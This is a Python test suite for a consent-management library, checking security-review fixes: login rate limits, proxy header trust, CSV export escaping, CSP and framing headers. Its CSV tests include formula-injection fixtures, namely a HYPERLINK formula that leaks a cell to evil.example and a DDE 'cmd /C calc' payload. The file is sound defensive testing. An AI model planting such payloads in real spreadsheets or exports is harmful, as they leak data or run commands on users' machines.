"""Issue 11, the attack review's hardening list: each finding as a visitor, an auditor or an
attacker would meet it over HTTP.

1. the desk's sign-in limit (counted before scrypt, per /64, bounded without a global unlock)
   and the trusted-proxy setting that says who a client is;
2. the desk's answers to odd record numbers, and its access log of every answer;
3. CSV cells that spreadsheets would run;
4. framing and the desk's Content-Security-Policy;
5. the filled-banner cache under a per-request CSP nonce;
6. the decision rate limit, and the overview counting each subject's latest decision once.
"""

from __future__ import annotations

import asyncio
import base64
import csv
import hashlib
import io
import re
import secrets
import tracemalloc
from collections import Counter
from pathlib import Path
from typing import Any

import httpx
import pytest
from conftest import BASE, EXAMPLE_POLICY, SAME_ORIGIN, make_app
from http_helpers import FORM, serve
from server_helpers import run_cli
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse
from starlette.routing import Route

from consentkit import ConfigurationError, ConsentKit, Policy
from consentkit.audit import access, hash_password
from consentkit.http.limits import RateLimiter

PASSWORD = "correct horse battery staple"
HASH = hash_password(PASSWORD)


def basic(user: str, password: str) -> dict[str, str]:
    return {"authorization": "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()}


ALICE = basic("alice", PASSWORD)
WRONG = basic("alice", "not the password at all")
FRAMING = {"x-frame-options": "DENY", "content-security-policy": "frame-ancestors 'none'"}


def client_at(app: Any, address: str) -> httpx.AsyncClient:
    """A client whose requests come from ``address`` (the ASGI scope's peer)."""
    return httpx.AsyncClient(transport=httpx.ASGITransport(app=app, client=(address, 4321)), base_url=BASE)


async def statuses(client: httpx.AsyncClient, n: int, path: str = "/consent/audit", **kw: Any) -> list[int]:
    return [(await client.get(path, **kw)).status_code for _ in range(n)]


async def access_log(kit: ConsentKit) -> list[tuple[str | None, str | None, str, int]]:
    """``(user, ip_prefix, path, status)`` of the desk's access log, oldest first."""
    entries = await kit.ledger.access_log(1000)
    return [(e["user"], e["ip_prefix"], e["path"], e["status"]) for e in reversed(entries)]


# -- 1. the desk's sign-in limit ---------------------------------------------------------------


async def test_concurrent_wrong_guesses_beyond_the_limit_are_refused_without_scrypt(make_kit, monkeypatch):
    """100 guesses at once from one address: the first five are checked (401), the other 95 are
    refused at once with 429 and Retry-After, and scrypt ran five times, not a hundred."""
    checks = []
    real_check = access.check_password

    def counting(password: str, stored: Any) -> bool:
        checks.append(password)
        return real_check(password, stored)

    monkeypatch.setattr(access, "check_password", counting)
    kit = make_kit(audit_users={"alice": HASH})
    async with serve(make_app(kit), kit) as client:
        answers = await asyncio.gather(
            *(client.get("/consent/audit", headers=basic("alice", f"guess {i}")) for i in range(100))
        )
        assert Counter(r.status_code for r in answers) == {401: access.MAX_FAILURES, 429: 95}
        assert all(int(r.headers["retry-after"]) > 0 for r in answers if r.status_code == 429)
        assert len(checks) == access.MAX_FAILURES
        # The right password from that address waits too, until the window has passed.
        assert (await client.get("/consent/audit", headers=ALICE)).status_code == 429


async def test_a_success_does_not_use_up_the_limit(make_kit):
    kit = make_kit(audit_users={"alice": HASH})
    async with serve(make_app(kit), kit) as client:
        assert await statuses(client, access.MAX_FAILURES + 2, headers=ALICE) == [200] * (
            access.MAX_FAILURES + 2
        )
        assert await statuses(client, access.MAX_FAILURES - 1, headers=WRONG) == [401] * (
            access.MAX_FAILURES - 1
        )
        assert (await client.get("/consent/audit", headers=ALICE)).status_code == 200


async def test_ipv6_failures_count_per_64(make_kit):
    """A host holds a whole /64: its other addresses are the same client; the next /64 is not."""
    kit = make_kit(audit_users={"alice": HASH})
    app = make_app(kit)
    try:
        async with client_at(app, "2001:db8:1:2::1") as first:
            assert await statuses(first, access.MAX_FAILURES, headers=WRONG) == [401] * access.MAX_FAILURES
        async with client_at(app, "2001:db8:1:2:ffff:ffff:ffff:fffe") as same_64:
            locked = await same_64.get("/consent/audit", headers=ALICE)
            assert locked.status_code == 429 and int(locked.headers["retry-after"]) > 0
        async with client_at(app, "2001:db8:1:3::1") as next_64:
            assert (await next_64.get("/consent/audit", headers=ALICE)).status_code == 200
        async with client_at(app, "198.51.100.7") as v4:
            assert (await v4.get("/consent/audit", headers=WRONG)).status_code == 401
    finally:
        await kit.aclose()


def test_a_spray_of_failing_addresses_does_not_unlock_a_locked_one():
    """Past 10,000 failing addresses memory stays bounded, and no locked client is let go:
    one-off failures push each other out (the desk's table, without its scrypt)."""
    gate = access.AuditAccess({"alice": HASH}, None)
    for _ in range(access.MAX_FAILURES):
        assert gate.reserve("203.0.113.66") == 0
    assert gate.retry_after("203.0.113.66") > 0
    for i in range(access.MAX_CLIENTS + 5000):
        gate.reserve(f"10.{i >> 16 & 255}.{i >> 8 & 255}.{i & 255}")
    assert len(gate.failures) <= access.MAX_CLIENTS
    assert gate.retry_after("203.0.113.66") > 0, "the locked address is still locked"
    assert gate.reserve("203.0.113.66") > 0


async def test_without_trusted_proxies_forwarded_headers_are_ignored(make_kit):
    """Anybody can send X-Forwarded-For: unless the peer is a configured proxy, it is the peer
    that is limited and recorded, whatever the header says."""
    kit = make_kit(audit_users={"alice": HASH})
    app = make_app(kit)
    try:
        async with client_at(app, "198.51.100.20") as client:
            for i in range(access.MAX_FAILURES):
                spoofed = {**WRONG, "x-forwarded-for": f"192.0.2.{i}"}
                assert (await client.get("/consent/audit", headers=spoofed)).status_code == 401
            fresh = {**ALICE, "x-forwarded-for": "192.0.2.200"}
            assert (await client.get("/consent/audit", headers=fresh)).status_code == 429
            r = await client.post(
                "/consent",
                json={"action": "accept_all"},
                headers={**SAME_ORIGIN, "x-forwarded-for": "192.0.2.9"},
            )
            assert r.status_code == 200
        [record] = [r async for r in kit.ledger.records()]
        assert record.ip_prefix == "198.51.100.0/24"
        assert {prefix for _, prefix, _, _ in await access_log(kit)} == {"198.51.100.0/24"}
    finally:
        await kit.aclose()


async def test_behind_trusted_proxies_each_client_has_its_own_limit_log_and_prefix(make_kit):
    """Behind a configured proxy, the client is the rightmost forwarded address that is not a
    proxy: one client's failures do not lock out the others, and the ledger and the access log
    keep the client's network, not the proxy's."""
    kit = make_kit(audit_users={"alice": HASH}, trusted_proxies=["127.0.0.1", "10.0.0.0/8"])
    app = make_app(kit)
    try:
        async with client_at(app, "10.1.2.3") as proxy:

            def via(client: str, **headers: str) -> dict[str, str]:
                # What the client wrote itself (a forged hop on the left) proves nothing.
                return {**headers, "x-forwarded-for": f"6.6.6.6, {client}, 10.9.9.9"}

            for _ in range(access.MAX_FAILURES):
                r = await proxy.get("/consent/audit", headers=via("203.0.113.5", **WRONG))
                assert r.status_code == 401
            assert (await proxy.get("/consent/audit", headers=via("203.0.113.5", **ALICE))).status_code == 429
            assert (
                await proxy.get("/consent/audit", headers=via("198.51.100.9", **ALICE))
            ).status_code == 200
            r = await proxy.post(
                "/consent", json={"action": "reject_all"}, headers=via("2001:db8:5::7", **SAME_ORIGIN)
            )
            assert r.status_code == 200
        [record] = [r async for r in kit.ledger.records()]
        assert record.ip_prefix == "2001:db8:5::/48"
        log = await access_log(kit)
        assert [prefix for _, prefix, _, _ in log] == ["203.0.113.0/24"] * 6 + ["198.51.100.0/24"]
    finally:
        await kit.aclose()


@pytest.mark.parametrize(
    ("peer", "forwarded", "client"),
    [
        ("10.0.0.2", "203.0.113.9", "203.0.113.9"),
        ("10.0.0.2", "1.1.1.1, 203.0.113.9, 10.0.0.7", "203.0.113.9"),  # rightmost not ours
        ("10.0.0.2", "203.0.113.9:51234", "203.0.113.9"),  # a port some proxies add
        ("10.0.0.2", "[2001:db8::5]:443", "2001:db8::5"),
        ("10.0.0.2", "::ffff:203.0.113.9", "203.0.113.9"),  # IPv4-mapped: the IPv4 address
        ("10.0.0.2", "203.0.113.9, not-an-address", "10.0.0.2"),  # garbage: the proxy stands for it
        ("10.0.0.2", "10.0.0.5, 10.0.0.7", "10.0.0.5"),  # all ours: the farthest
        ("10.0.0.2", None, "10.0.0.2"),
        ("198.51.100.1", "203.0.113.9", "198.51.100.1"),  # not our proxy: ignored
    ],
)
def test_the_client_behind_trusted_proxies(peer, forwarded, client):
    from consentkit.http.client import ClientAddresses, limit_key

    headers = [(b"x-forwarded-for", forwarded.encode())] if forwarded else []
    clients = ClientAddresses(["10.0.0.0/8"])
    assert clients.of({"client": (peer, 1), "headers": headers}) == client
    assert ClientAddresses().of({"client": (peer, 1), "headers": headers}) == peer
    assert limit_key("2001:db8:1:2:3:4:5:6") == "2001:db8:1:2::/64"
    assert limit_key("::ffff:203.0.113.9") == "203.0.113.9" and limit_key(None) == "unknown"


@pytest.mark.parametrize("proxies", [["10.0.0.0/33"], ["proxy.internal"], "10.0.0.1"])
def test_trusted_proxies_must_be_addresses_or_networks(make_kit, proxies):
    with pytest.raises(ConfigurationError, match="trusted_proxies"):
        make_kit(trusted_proxies=proxies)


# -- 2. odd record numbers, and the access log of every answer ---------------------------------


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/consent/audit/records/%C2%B2", 404),  # "²": str.isdigit() says yes
        ("/consent/audit/records/99999999999999999999999", 404),  # beyond SQLite's integers
        ("/consent/audit/records/9223372036854775808", 404),  # 2^63
        ("/consent/audit/records/0", 404),
        ("/consent/audit/records/-1", 404),
        ("/consent/audit/records/%EF%BC%91", 404),  # a full-width "1"
        ("/consent/audit/records/9223372036854775807", 404),  # the largest: valid, and absent
        ("/consent/audit/records?before=%C2%B2", 400),
        ("/consent/audit/records?before=99999999999999999999999", 400),
        ("/consent/audit/records?before=-5", 400),
        ("/consent/audit/records?before=9223372036854775807", 200),
    ],
)
async def test_record_numbers_that_are_not_plain_numbers_get_a_4xx_and_are_logged(make_kit, path, status):
    kit = make_kit(audit_users={"alice": HASH})
    async with serve(make_app(kit), kit) as client:
        r = await client.get(path, headers=ALICE)
        assert r.status_code == status, r.text
        assert (await access_log(kit))[-1][::3] == ("alice", status)


async def test_every_desk_answer_is_in_the_access_log_even_a_failure_of_ours(make_kit, monkeypatch):
    kit = make_kit(audit_users={"alice": HASH})

    async def broken(*args: Any, **kwargs: Any) -> None:
        raise RuntimeError("a bug in the overview")

    monkeypatch.setattr(kit.audit, "overview", broken)
    async with serve(make_app(kit), kit) as client:
        failed = await client.get("/consent/audit", headers=ALICE)
        assert failed.status_code == 500 and "a bug" not in failed.text
        assert failed.headers["x-frame-options"] == "DENY"
        assert (await client.get("/consent/audit/nowhere", headers=ALICE)).status_code == 404
        assert (await client.get("/consent/audit/records")).status_code == 401
        for _ in range(access.MAX_FAILURES):
            await client.get("/consent/audit/access", headers=WRONG)
        assert (await client.get("/consent/audit/records", headers=ALICE)).status_code == 429
    log = await access_log(kit)
    assert [(user, path, status) for user, _, path, status in log] == [
        ("alice", "/consent/audit", 500),
        ("alice", "/consent/audit/nowhere", 404),
        (None, "/consent/audit/records", 401),
        *[(None, "/consent/audit/access", 401)] * access.MAX_FAILURES,
        (None, "/consent/audit/records", 429),
    ]


# -- 3. CSV cells a spreadsheet would run ------------------------------------------------------

FORMULA_SUBJECT = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
FORMULA_AGENT = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_VERSION = "+2026-11-01"


@pytest.fixture
def formula_policy(tmp_path: Path) -> Policy:
    text = EXAMPLE_POLICY.read_text().replace('version = "2026-11-01"', f'version = "{FORMULA_VERSION}"')
    path = tmp_path / "consent.toml"
    path.write_text(text)
    return Policy.from_toml(path)


async def _fill_with_formulas(kit: ConsentKit, client: httpx.AsyncClient) -> None:
    await kit.record(FORMULA_SUBJECT, {"sms_marketing": True}, locale="-fr")
    r = await client.post(
        "/consent", json={"action": "accept_all"}, headers={**SAME_ORIGIN, "user-agent": FORMULA_AGENT}
    )
    assert r.status_code == 200


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def test_csv_exports_make_formulas_inert_unless_raw(make_kit, formula_policy, ledger_url):
    kit = make_kit(policy=formula_policy, audit_users={"alice": HASH})
    async with serve(make_app(kit), kit) as client:
        await _fill_with_formulas(kit, client)
        desk = await client.get("/consent/audit/export?format=csv", headers=ALICE)
        raw = await client.get("/consent/audit/export?format=csv&raw=1", headers=ALICE)
        assert (
            await client.get("/consent/audit/export?format=csv&raw=yes", headers=ALICE)
        ).status_code == 400
    cli = run_cli("export", "--ledger", ledger_url, "--format", "csv")
    cli_raw = run_cli("export", "--ledger", ledger_url, "--format", "csv", "--raw")
    assert cli.returncode == 0 and cli_raw.returncode == 0, cli.stderr + cli_raw.stderr
    assert desk.text == cli.stdout and raw.text == cli_raw.stdout, "the desk and the CLI agree"

    opt_in, decision = _csv_rows(desk.text)
    assert opt_in["subject_id"] == "'" + FORMULA_SUBJECT
    assert opt_in["locale"] == "'-fr"
    assert decision["user_agent"] == "'" + FORMULA_AGENT
    assert decision["policy_version"] == "'" + FORMULA_VERSION
    for row in (opt_in, decision):
        assert not any(v[:1] in "=+-@\t\r" for v in row.values() if v), row
    assert decision["purposes"].startswith("{") and decision["seq"] == "2"

    opt_in, decision = _csv_rows(raw.text)
    assert opt_in["subject_id"] == FORMULA_SUBJECT and opt_in["locale"] == "-fr"
    assert decision["user_agent"] == FORMULA_AGENT and decision["policy_version"] == FORMULA_VERSION


async def test_the_visitors_own_history_csv_makes_formulas_inert(make_kit, formula_policy):
    kit = make_kit(policy=formula_policy)
    async with serve(make_app(kit), kit) as client:
        await _fill_with_formulas(kit, client)
        r = await client.get("/consent/history?format=csv")
    [row] = _csv_rows(r.text)
    assert row["user_agent"] == "'" + FORMULA_AGENT and row["policy_version"] == "'" + FORMULA_VERSION


# -- 4. framing and the desk's CSP ---------------------------------------------------------------


async def test_nothing_under_the_mount_may_be_framed(make_kit):
    kit = make_kit(audit_users={"alice": HASH})
    async with serve(make_app(kit), kit) as client:
        css = kit.assets.url("/consent", "consentkit.css")
        answers = [
            await client.get("/consent"),
            await client.get("/consent/banner?next=/"),
            await client.get("/consent/cookies"),
            await client.get("/consent/history"),
            await client.get(css),
            await client.get("/consent/nowhere"),
            await client.put("/consent"),
            await client.post(
                "/consent", json={"action": "accept_all"}, headers={"origin": "https://evil.example"}
            ),
            await client.post(
                "/consent", data={"action": "accept_all"}, headers={**SAME_ORIGIN, "content-type": FORM}
            ),
            await client.post("/consent", json={"action": "accept_all"}, headers=SAME_ORIGIN),
        ]
        assert [r.status_code for r in answers] == [200, 200, 200, 200, 200, 404, 405, 403, 303, 200]
        for r in answers:
            assert {k: r.headers.get(k) for k in FRAMING} == FRAMING, r.request.url


async def test_the_desk_has_a_strict_csp_that_allows_exactly_its_stylesheet(make_kit):
    kit = make_kit(audit_users={"alice": HASH})
    async with serve(make_app(kit), kit) as client:
        page = await client.get("/consent/audit/records", headers=ALICE)
        refused = await client.get("/consent/audit")
        export = await client.get("/consent/audit/export", headers=ALICE)
    style = re.search(r"<style>(.*?)</style>", page.text, re.S)
    assert style is not None
    digest = base64.b64encode(hashlib.sha256(style.group(1).encode()).digest()).decode()
    expected = (
        f"default-src 'none'; style-src 'sha256-{digest}'; form-action 'self'; "
        "frame-ancestors 'none'; base-uri 'none'"
    )
    for r in (page, refused, export):
        assert r.headers["content-security-policy"] == expected, r.status_code
        assert r.headers["x-frame-options"] == "DENY"
    assert "unsafe-inline" not in expected
    assert not re.search(r"<script|\sstyle=|\son[a-z]+=", page.text), "nothing inline the CSP would refuse"


def test_the_desk_off_answers_404_that_cannot_be_framed_either(make_kit):
    async def go() -> httpx.Response:
        kit = make_kit()
        async with serve(make_app(kit), kit) as client:
            return await client.get("/consent/audit")

    r = asyncio.run(go())
    assert r.status_code == 404 and r.headers["x-frame-options"] == "DENY"


# -- 5. the banner under a per-request CSP nonce -------------------------------------------------


class Nonce:
    """The site's own CSP middleware, inside ``kit.middleware``: a fresh nonce per request."""

    def __init__(self, app: Any) -> None:
        self.app = app

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        if scope["type"] == "http":
            scope.setdefault("state", {})["csp_nonce"] = secrets.token_urlsafe(16)
        await self.app(scope, receive, send)


async def test_each_page_gets_its_own_nonce_in_every_injected_tag(make_kit):
    from starlette.middleware import Middleware

    async def page(request: Request) -> HTMLResponse:
        return HTMLResponse(
            f"<html><head><title>{request.state.csp_nonce}</title></head><body>x</body></html>"
        )

    kit = make_kit()
    app = Starlette(routes=[Route("/", page)], middleware=[kit.middleware, Middleware(Nonce)])
    async with serve(app, kit) as client:
        seen = set()
        for _ in range(5):
            html = (await client.get("/")).text
            nonce = html.split("<title>", 1)[1].split("</title>")[0]
            tags = re.findall(r"<(?:link|script)\b[^>]*>", html)
            assert len(tags) >= 3 and all(f'nonce="{nonce}"' in tag for tag in tags), tags
            seen.add(nonce)
        assert len(seen) == 5


def test_fresh_nonces_do_not_grow_the_banner_cache(kit):
    """A nonce per request (what CSP asks for) used to be part of the cache key: every request
    missed and left a 4 KB copy behind. Now the memory is the same after 600 nonces as after
    one."""
    consent = kit.reader.of(None, False)
    kit.renderer.tags(consent, "en", "/plans", "warm-up")
    tracemalloc.start()
    try:
        before = tracemalloc.get_traced_memory()[0]
        for _ in range(600):
            nonce = secrets.token_urlsafe(16)
            head, body = kit.renderer.tags(consent, "en", "/plans", nonce)
            assert f'nonce="{nonce}"'.encode() in head and f'nonce="{nonce}"'.encode() in body
        grown = tracemalloc.get_traced_memory()[0] - before
    finally:
        tracemalloc.stop()
    assert grown < 256 * 1024, f"the banner cache grew by {grown // 1024} KiB for 600 nonces"
    plain = kit.renderer.tags(consent, "en", "/plans", None)
    assert b"nonce=" not in plain[0] + plain[1]


# -- 6. the decision rate limit, and counting subjects -------------------------------------------


async def test_decisions_beyond_the_limit_get_429_and_write_nothing(make_kit):
    kit = make_kit(decision_rate_limit=(3, 60))
    async with serve(make_app(kit), kit) as client:
        for _ in range(3):
            r = await client.post("/consent", json={"action": "accept_all"}, headers=SAME_ORIGIN)
            assert r.status_code == 200
            client.cookies.clear()
        refused = await client.post("/consent", json={"action": "reject_all"}, headers=SAME_ORIGIN)
        assert refused.status_code == 429
        assert refused.json()["error"] == "too_many_decisions" and "not recorded" in refused.json()["message"]
        assert 0 < int(refused.headers["retry-after"]) <= 60
        assert "set-cookie" not in refused.headers
        form = await client.post(
            "/consent",
            data={"action": "reject_all", "next": "/"},
            headers={**SAME_ORIGIN, "content-type": FORM},
        )
        assert form.status_code == 429 and form.headers["content-type"].startswith("text/plain")
        assert "try again" in form.text and "retry-after" in form.headers
        # Bad input is refused for what it is, and does not count either.
        assert (
            await client.post("/consent", json={"action": "maybe"}, headers=SAME_ORIGIN)
        ).status_code == 400
    assert [r.action async for r in kit.ledger.records()] == ["accept_all"] * 3


async def test_the_decision_limit_is_per_client_and_per_64(make_kit):
    kit = make_kit(decision_rate_limit=(2, 60))
    app = make_app(kit)

    async def post(address: str) -> int:
        async with client_at(app, address) as c:
            return (await c.post("/consent", json={"action": "accept_all"}, headers=SAME_ORIGIN)).status_code

    try:
        assert [await post("2001:db8:7:7::1"), await post("2001:db8:7:7::2")] == [200, 200]
        assert await post("2001:db8:7:7:abcd::3") == 429, "same /64"
        assert await post("2001:db8:7:8::1") == 200, "another /64"
        assert [await post("198.51.100.1"), await post("198.51.100.1"), await post("198.51.100.1")] == [
            200,
            200,
            429,
        ]
        assert await post("198.51.100.2") == 200, "IPv4: per address"
    finally:
        await kit.aclose()


async def test_the_decision_limit_is_on_by_default_and_can_be_turned_off(make_kit):
    kit = make_kit()
    limit, _window = kit.decision_limit.limit, kit.decision_limit.window
    async with serve(make_app(kit), kit) as client:
        codes = []
        for _ in range(limit + 1):
            codes.append(
                (
                    await client.post("/consent", json={"action": "accept_all"}, headers=SAME_ORIGIN)
                ).status_code
            )
            client.cookies.clear()
        assert codes == [200] * limit + [429]
    unlimited = make_kit(decision_rate_limit=None)
    async with serve(make_app(unlimited), unlimited) as client:
        for _ in range(limit + 5):
            assert (
                await client.post("/consent", json={"action": "save"}, headers=SAME_ORIGIN)
            ).status_code == 200


@pytest.mark.parametrize("setting", [(0, 60), (10, 0), ("ten", 60), (10,), 10, (True, 60)])
def test_a_bad_decision_rate_limit_is_a_configuration_error(make_kit, setting):
    with pytest.raises(ConfigurationError, match="decision_rate_limit"):
        make_kit(decision_rate_limit=setting)


def test_the_limiters_memory_is_bounded_and_a_knocking_client_stays_limited():
    limiter = RateLimiter(3, 60.0, max_keys=100)
    for t in range(3):
        assert limiter.acquire("flood", now=float(t)) == 0.0
    for i in range(1000):
        limiter.acquire(f"visitor-{i}", now=10.0 + i / 100)
        assert len(limiter) <= 100
    assert limiter.acquire("flood", now=20.0) > 0, "one-off visitors did not push the flood out"
    assert limiter.acquire("flood", now=61.0) == 0.0, "its window slid on"
    limiter.release("flood")
    assert limiter.wait("flood", now=61.0) == 0.0


async def test_the_overview_can_count_each_subjects_latest_decision_once(make_kit):
    """One visitor who accepts ten times weighs ten times in the per-decision figures, and once
    when the auditor counts subjects."""
    kit = make_kit(audit_users={"alice": HASH}, decision_rate_limit=None)
    async with serve(make_app(kit), kit) as client:
        for _ in range(10):
            assert (
                await client.post("/consent", json={"action": "accept_all"}, headers=SAME_ORIGIN)
            ).status_code == 200
        client.cookies.clear()
        for _ in range(2):
            assert (
                await client.post("/consent", json={"action": "reject_all"}, headers=SAME_ORIGIN)
            ).status_code == 200
            client.cookies.clear()

        def figures(html: str) -> dict[str, str]:
            return dict(re.findall(r"<dt>([^<]+)</dt><dd>([^<]+)</dd>", html))

        every = figures((await client.get("/consent/audit", headers=ALICE)).text)
        page = (await client.get("/consent/audit?count=subjects", headers=ALICE)).text
        once = figures(page)
        assert (await client.get("/consent/audit?count=visitors", headers=ALICE)).status_code == 400
    assert every["Decisions"] == "12" and every["Consent rate: Analytics"] == "83.3%"
    assert once["Decisions, one per subject"] == "3" and once["Consent rate: Analytics"] == "33.3%"
    assert once["Consent rate: Targeted advertising"] == "33.3%"
    assert '<option value="subjects" selected>' in page


async def test_per_subject_figures_on_each_backend(policy, any_ledger_url):
    from consentkit.audit.overview import build, build_per_subject

    kit = ConsentKit(policy=policy, secret_keys=["s" * 32], ledger=any_ledger_url, decision_rate_limit=None)
    try:
        await kit.ledger.open()
        for granted in (False, True, True):
            await kit.record("dana", {"analytics": granted, "ads": False})
        await kit.record("eli", {"analytics": False, "ads": False})
        await kit.record("eli", {"sms_marketing": True})  # another set of purposes: counted apart
        await kit.ledger.erase("eli")  # erased subjects are left out
        await kit.record("finn", {"analytics": False, "ads": True})
        every = await build(kit.ledger, purposes=["analytics", "ads"])
        once = await build_per_subject(kit.ledger, purposes=["analytics", "ads"])
    finally:
        await kit.aclose()
    assert every.decisions == 6 and every.rate("analytics") == pytest.approx(2 / 5)
    assert once.per_subject and once.decisions == 2
    assert once.rate("analytics") == pytest.approx(1 / 2) and once.rate("ads") == pytest.approx(1 / 2)
    assert once.records == every.records and once.labels == every.labels
